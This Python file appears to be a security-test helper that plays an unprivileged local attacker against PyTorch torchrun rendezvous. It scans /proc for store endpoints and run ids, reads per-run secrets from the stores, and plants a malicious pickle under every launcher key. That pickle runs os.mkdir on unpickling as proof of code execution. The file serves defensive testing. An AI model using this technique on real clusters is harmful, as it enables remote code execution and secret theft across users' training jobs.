"""What an unprivileged user of the node (or a process in another network
namespace) tries against a run's rendezvous: read every endpoint and id the
run's processes show in /proc, connect to every port they listen on, and store
a pickled object under every key torchrun's launcher reads. Unpickled, the
object makes a directory: proof that whoever unpickled it ran the attacker's
code. Started by tests/gpuwork/test_rendezvous.py as root, it imports what it
needs, then drops to `nobody` (no capabilities, no groups) before it looks at
anything: on a machine where nobody cannot run the interpreter at all (it lies
under /root), this is the same user with the same rights. It keeps its log, as
JSON, in the --out file it opened before, until it is killed.

    python rdzv_attacker.py --out FILE --mark DIR --under PATH [--addr ADDR] [--user nobody]
"""

from __future__ import annotations

import argparse
import base64
import datetime
import json
import os
import pickle
import pwd
import signal
import socket
import threading
import time

from torch.distributed import TCPStore


class Payload:
    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (os.mkdir, (self.path,))


def targets(addr: str | None, under: str) -> tuple[set[tuple[str, int]], set[str]]:
    """(host, port) pairs and rendezvous ids the run's processes give away: those whose command
    line names ``under`` (the run's TMPDIR), so that no other run on the machine is attacked."""
    found: set[tuple[str, int]] = set()
    ids: set[str] = set()
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0")]
        except OSError:
            continue
        if not any("torch.distributed.run" in a or a.endswith(("_torchrun.py", "world.py", "meeting.py")) or a == "preflight" for a in argv):
            continue
        if not any(under in a for a in argv):
            continue
        opts = dict(zip(argv, argv[1:]))
        if "--rdzv-endpoint" in opts:  # torchrun's store, and preflight's meeting point beside it
            host, _, port = opts["--rdzv-endpoint"].rpartition(":")
            found |= {(addr or host, int(port)), (addr or host, int(port) + 1)}
        if "--master-port" in opts:
            found.add((addr or opts.get("--master-addr", "127.0.0.1"), int(opts["--master-port"])))
        if "--rdzv-id" in opts:
            ids.add(opts["--rdzv-id"])
        # Every socket the process's own network namespace lists as listening.
        for table in ("tcp", "tcp6"):
            try:
                with open(f"/proc/{pid}/net/{table}") as f:
                    rows = f.read().splitlines()[1:]
            except OSError:
                continue
            for row in rows:
                cols = row.split()
                if len(cols) > 3 and cols[3] == "0A":  # LISTEN
                    found.add((addr or ("127.0.0.1" if table == "tcp" else "::1"), int(cols[1].rsplit(":", 1)[1], 16)))
    return found, ids


def keys(ids: set[str]) -> list[str]:
    """Every key torchrun's launcher reads: the c10d rendezvous state, the static one's rank
    assignment (with and without its run-id prefix), for every id seen and the defaults."""
    out = []
    for rid in sorted(ids | {"none", "default", "preflight"}):
        out.append(f"torch.rendezvous.{rid}")
        for prefix in (f"{rid}/", ""):
            for i in range(4):
                out += [f"{prefix}torchelastic/role_info/{i}", f"{prefix}torchelastic/assigned_ranks/{i}"]
    return out


def secrets_of(store, ids: set[str], log: dict) -> set[str]:
    """A group's meeting point hands its per-run word to whoever knows the group's id:
    the rendezvous ids torchrun then uses, built as preflight builds them."""
    more = set()
    for rid in ids | {"preflight"}:
        try:
            if store.check([f"{rid}/secret"]):
                word = store.get(f"{rid}/secret").decode()
                log["secrets"].append(word)
                more |= {f"{rid}-{check}-{word}" for check in ("nccl", "bandwidth")}
        except Exception:  # noqa: BLE001 - not a meeting point
            pass
    return more


def attack(host: str, port: int, ids: set[str], mark: str, log: dict) -> None:
    log["seen"].append(f"{host}:{port}")
    try:
        with socket.create_connection((host, port), timeout=1):
            pass
    except OSError as e:
        log["refused"].append(f"{host}:{port} ({e.strerror or e})")
        time.sleep(0.01)
        return
    log["connected"].append(f"{host}:{port}")
    try:
        store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=datetime.timedelta(seconds=2))
        bomb = pickle.dumps(Payload(mark))
        ids = ids | secrets_of(store, ids, log)
        log["ids"] = sorted(set(log["ids"]) | ids)
        for key in keys(ids):
            store.set(key, base64.b64encode(bomb) if key.startswith("torch.rendezvous.") else bomb)
        log["stored"].append(f"{host}:{port}")
    except Exception as e:  # noqa: BLE001 - not a store, or it went away
        log["errors"].append(f"{host}:{port}: {type(e).__name__}: {str(e)[:200]}")


def become(user: str) -> None:
    """Drop root for good. Everything Python loads lazily is loaded first: after this, the
    interpreter's own files under /root are out of reach."""
    import encodings.idna  # noqa: F401 - socket's name lookups load it on first use

    socket.getaddrinfo("127.0.0.1", 1)
    json.dumps(base64.b64encode(pickle.dumps(Payload("/nonexistent"))).decode())
    pw = pwd.getpwnam(user)
    os.setgroups([])
    os.setgid(pw.pw_gid)
    os.setuid(pw.pw_uid)


def main() -> int:
    p = argparse.ArgumentParser()
    p.add_argument("--out", required=True)
    p.add_argument("--mark", required=True)
    p.add_argument("--under", required=True, help="attack only processes whose command line names this path")
    p.add_argument("--addr", help="connect here instead of the address the run names (another namespace's view)")
    p.add_argument("--user", default="nobody")
    p.add_argument("--limit", type=float, default=300.0)
    args = p.parse_args()
    out = os.open(args.out, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    become(args.user)
    log: dict = {"uid": os.getuid(), "seen": [], "ids": [], "secrets": [], "connected": [], "refused": [], "stored": [], "errors": []}
    until = time.monotonic() + args.limit
    stop: list[int] = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))  # the test is done: write the log whole, then go
    # /proc is watched all along, apart from the attacks: a store that answers slowly (or any
    # listener of the host's that the agent's /proc/PID/net/tcp lists) must not hold the watch
    # up while a short launch comes and goes.
    found: set[tuple[str, int]] = set()
    ids: set[str] = set()

    def watch() -> None:
        while time.monotonic() < until and not stop:
            now, more = targets(args.addr, args.under)
            found.update(now)
            ids.update(more)
            time.sleep(0.02)

    threading.Thread(target=watch, daemon=True).start()
    while time.monotonic() < until and not stop:
        log["ids"] = sorted(set(log["ids"]) | set(ids))
        # Again and again: a group's store is up only while a group check runs, and the
        # per-run word is known only once the meeting point has been read.
        for target in sorted(set(found)):
            attack(*target, set(log["ids"]), args.mark, log)
        time.sleep(0.05)
    for key in ("seen", "secrets", "connected", "refused", "stored", "errors"):
        log[key] = sorted(set(log[key]))
    os.write(out, json.dumps(log).encode())
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
